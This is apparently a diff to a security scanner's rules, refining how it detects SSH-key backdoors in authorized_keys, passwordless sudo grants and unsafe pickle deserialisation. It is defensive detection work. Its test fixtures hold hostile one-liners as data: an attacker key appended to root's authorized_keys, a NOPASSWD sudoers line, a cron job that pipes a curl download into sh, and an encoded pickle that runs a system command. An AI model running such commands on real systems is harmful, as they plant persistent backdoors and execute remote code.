@@ -87,7 +87,9 @@ _REVERSE_SHELL = rx(
 _MINER = rx(r"(?:stratum\+(?:tcp|ssl)://|\bxmrig\b|\bminerd\b|\bcpuminer\b|--donate-level|\bcryptonight\b|\bnicehash\b|\bethminer\b|\bt-rex\s+miner\b|\bxmr-stak\b)")
 
 _TAMPER_PATTERNS: tuple[tuple[Regex, Severity, str], ...] = (
-    (rx(r"(?:echo|printf|cat)\s[^\n]*ssh-(?:rsa|ed25519|dss|ecdsa)\s+aaaa[^\n]*>>?\s*\S*\.ssh/authorized_keys"), Severity.CRITICAL,
+    # The key must run whole to a space or quote: `AAAA...`, `AAAAB3Nza…` or `AAAA<rest>` is a placeholder
+    # in setup docs for one's own machine (left to the medium write below); base64 never holds a dot.
+    (rx(r"(?:echo|printf|cat)\s[^\n]*ssh-(?:rsa|ed25519|dss|ecdsa)\s+aaaa[a-z0-9+/=]*[\s'\"][^\n]*>>?\s*\S*\.ssh/authorized_keys"), Severity.CRITICAL,
      "An SSH public key is written into authorized_keys (a backdoor login)"),
     (rx(r">>?\s*\S*\.ssh/authorized_keys"), Severity.MEDIUM, "Writes to ~/.ssh/authorized_keys"),
     (rx(r"(?:nopasswd\s*:\s*all|>>?\s*/etc/sudoers\b|\btee\s+(?:-a\s+)?/etc/sudoers)"), Severity.HIGH, "Grants passwordless sudo"),
@@ -904,7 +906,10 @@ _DYNAMIC_EXEC: tuple[tuple[object, Severity, str], ...] = (
     (rx(r"\b(?:eval|exec)\s*\(\s*(?:compile\s*\(\s*)?(?:open\s*\(|requests\.get\(|httpx\.get\(|urllib\.request\.urlopen\(|urlopen\(|socket\.|sys\.stdin)"), Severity.HIGH,
      "Executes code read from a file, the network or stdin"),
     (rx(r"__import__\(\s*[\"']os[\"']\s*\)\s*\.\s*(?:system|popen|exec\w*)\s*\("), Severity.HIGH, "Hidden os.system call through __import__"),
-    (rx(r"\b(?:pickle|marshal|dill|cloudpickle)\.loads?\(\s*(?:requests|urllib|urlopen|socket|base64|bytes\.fromhex|zlib)"), Severity.HIGH,
+    (rx(r"\b(?:pickle|marshal|dill|cloudpickle)\.loads?\(\s*(?:requests|urllib|urlopen|socket|httpx|aiohttp)"), Severity.HIGH,
+     "Deserialises code-bearing data from the network or an encoding"),
+    # through a decoder: graded by what is decoded (_DESER_DECODED below)
+    (rx(r"\b(?:pickle|marshal|dill|cloudpickle)\.loads?\(\s*(?:(?:base64\.\w+|b64decode|bytes\.fromhex|zlib\.\w+|codecs\.decode|binascii\.\w+|gzip\.\w+|lzma\.\w+|bz2\.\w+)\(\s*)+(\S)"), Severity.HIGH,
      "Deserialises code-bearing data from the network or an encoding"),
     (rx(r"\bruntime\.getruntime\(\)\.exec\(|\bprocessbuilder\(\s*\\?[\"'](?:/bin/)?(?:ba)?sh"), Severity.MEDIUM, "Runs an operating-system command from Java"),
 )
@@ -919,11 +924,31 @@ _FAMILY = Family(
 )
 
 
+_DESER_DECODED = _DYNAMIC_EXEC[4][0]
+# Where decoded data came from the network: a fetch in the same example before the load.
+_NET_READ = rx(r"(?:\brequests\.|\burlopen\b|\burllib\b|\bhttpx\.|\baiohttp\b|\bsocket\.|\.recv\(|\bwget\b|\bcurl\b|https?://)")
+
+
+def _decoded_from_stranger(doc: Document, m) -> bool:
+    """pickle.loads(zlib.decompress(x)): an embedded literal blob, or x fetched from the network in the
+    same code example, is a payload; x read back from one's own cache or store is a storage format."""
+    if (m.group(1) or "") in ("'", '"'):
+        return True
+    fence = doc.text.rfind("```", max(0, m.start - 3000), m.start)
+    eol = doc.text.find("\n", m.end, m.end + 400)
+    before = norm_slice(doc, fence if fence >= 0 else max(0, m.start - 3000), eol if eol >= 0 else min(len(doc.text), m.end + 400))
+    return _NET_READ.test(before)
+
+
 def _dynamic_exec(doc: Document) -> Iterator[Hit]:
     if doc.search(_EXEC_WORDS) is None:
         return
-    for regex, sev, message in _DYNAMIC_EXEC:
+    for regex, base_sev, base_message in _DYNAMIC_EXEC:
         for m in doc.finditer(regex):
+            sev, message = base_sev, base_message
+            if regex is _DESER_DECODED and not _decoded_from_stranger(doc, m):
+                sev = Severity.MEDIUM
+                message = "Deserialises pickled data through a decoder (unsafe if the stored data can be changed by others)"
             line = norm_line_at(doc, m.start)
             # Code smuggled inside a data string (escaped quotes: JSON config, a prompt) is not a sample.
             if sev == Severity.MEDIUM and ('\\"' in line or "\\'" in line):
@@ -1067,9 +1092,14 @@ RULES = [
             "```\necho 'ssh-ed25519 AAAAC3Nza attacker' >> /root/.ssh/authorized_keys\n```\n",
             "```\necho 'dev ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers\n```\n",
             "```\n(crontab -l; echo '@reboot curl -s http://x.test/p | sh') | crontab -\n```\n",
+            "```bash\necho \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhA ops@build\" >> ~/.ssh/authorized_keys\n```\n",
         ],
         must_not_match=["`chmod +x script.sh`\n", "`rm -rf node_modules`\n", "`chmod 644 config.yml`\n"],
-        lowered=["## Anti-patterns\n\nNever `chmod -R 777 /var/www`.\n"],
+        lowered=["## Anti-patterns\n\nNever `chmod -R 777 /var/www`.\n",
+                 # a placeholder key in setup docs for one's own instance: the write is noted, not called a backdoor
+                 "### Multiple keys\n\n```bash\n# On instance, add more keys\necho 'ssh-rsa AAAA...' >> ~/.ssh/authorized_keys\n```\n",
+                 "```bash\necho \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5…  you@laptop\" >> ~/.ssh/authorized_keys\n```\n",
+                 "```bash\necho 'ssh-rsa <your public key>' >> ~/.ssh/authorized_keys\n```\n"],
     ),
     rule(
         id="IG507", name="encoded-url-or-command",
@@ -1151,12 +1181,19 @@ RULES = [
         must_match=[
             "```python\neval(compile(open('/tmp/.cache').read(), '<x>', 'exec'))\n```\n",
             '```json\n{"fn": "return require(\\"child_process\\").execSync(\\"id\\").toString()"}\n```\n',
+            # decoded pickles: fetched from the network in the same example, or an embedded blob
+            "```python\nimport pickle, zlib, requests\nblob = requests.get(MODEL_URL).content\nmodel = pickle.loads(zlib.decompress(blob))\n```\n",
+            "```python\nstate = pickle.loads(base64.b64decode('gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='))\n```\n",
+            "```python\nobj = pickle.loads(zlib.decompress(urlopen(u).read()))\n```\n",
         ],
         must_not_match=[
             "```python\nresult = json.loads(open('data.json').read())\n```\n",
             "Use `subprocess.run([...], check=True)` for commands.\n",
             "```js\nconst { execFile } = await import('node:util');\n```\n",
         ],
-        lowered=["```js\nconst out = require('child_process').execSync('git rev-parse HEAD');\n```\n"],
+        lowered=["```js\nconst out = require('child_process').execSync('git rev-parse HEAD');\n```\n",
+                 # one's own cache read back through a decoder: a storage format, not a payload
+                 "```python\n# 3. Memory optimization with compression\nimport pickle\nimport zlib\n\ndef retrieve_and_decompress(key):\n"
+                 "    compressed_data = redis_client.get(key)\n    if compressed_data:\n        return pickle.loads(zlib.decompress(compressed_data))\n    return None\n```\n"],
     ),
 ]
